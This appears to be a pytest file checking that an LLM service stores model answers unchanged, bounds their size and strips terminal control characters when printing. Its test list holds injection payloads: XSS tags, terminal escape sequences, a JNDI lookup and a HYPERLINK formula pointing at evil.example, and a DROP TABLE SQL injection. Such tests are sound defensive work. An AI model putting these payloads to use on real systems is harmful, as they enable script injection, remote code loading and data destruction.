"""A model's answer is data: it is stored as it is, bounded, and harmless where it is shown."""

from __future__ import annotations

import json

import pytest

from llm_service.cli.printable import printable
from tests.unit.tasks.bench import Bench, Store, body, code

HOSTILE = [
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b31m and \u202etxt.exe",
    "line\r\n2026-11-20 ERROR forged line",
    "${jndi:ldap://evil.example/a} %s {0} {{text}}",
    "'; DROP TABLE operation_logs; --",
    "nul \x00 in the middle",
    '=HYPERLINK("http://evil.example")',
    '```json\n{"a": 1}\n```',
]


@pytest.mark.parametrize("answer", HOSTILE)
async def test_an_answer_is_stored_as_it_is_and_is_ascii_on_the_wire(answer: str) -> None:
    bench = Bench()
    bench.model.script = [answer]
    await bench.live(bench.delivery())
    (outcome,) = bench.settler.outcomes
    assert code(outcome) == "success"
    assert json.loads(str(body(outcome.status)["result"]))["raw_response"] == answer
    assert outcome.status is not None
    assert outcome.status.value is not None
    wire = outcome.status.value
    assert not any(byte < 0x20 for byte in wire), "no control character can forge a line of whoever prints it"


@pytest.mark.parametrize("answer", HOSTILE)
def test_an_answer_moves_no_terminal(answer: str) -> None:
    shown = printable(answer)
    assert not any(ord(char) < 0x20 and char not in "\n\t" for char in shown)
    assert not any(char in shown for char in "\x1b\x9b\u202e\x7f\x00\r")


async def test_an_answer_of_5_mb_goes_to_the_store_and_its_event_stays_small() -> None:
    store = Store()
    bench = Bench(store=store)
    bench.model.script = ["</script>" + "я" * 2_500_000]
    await bench.live(bench.delivery())
    (outcome,) = bench.settler.outcomes
    assert code(outcome) == "success"
    assert outcome.status is not None
    assert len(outcome.status.value or b"") <= 10_000
    reference = str(body(outcome.status)["result_ref"])
    kept = store.kept[reference].decode()
    assert "</script>" in kept
    assert kept.count("я") == 2_500_000 or kept.count("\\u044f") == 2_500_000


async def test_an_answer_of_5_mb_without_a_store_fails_by_name() -> None:
    bench = Bench()
    bench.model.script = ["x" * 5_000_000]
    await bench.live(bench.delivery())
    assert code(bench.settler.outcomes[0]) == "result_too_large"
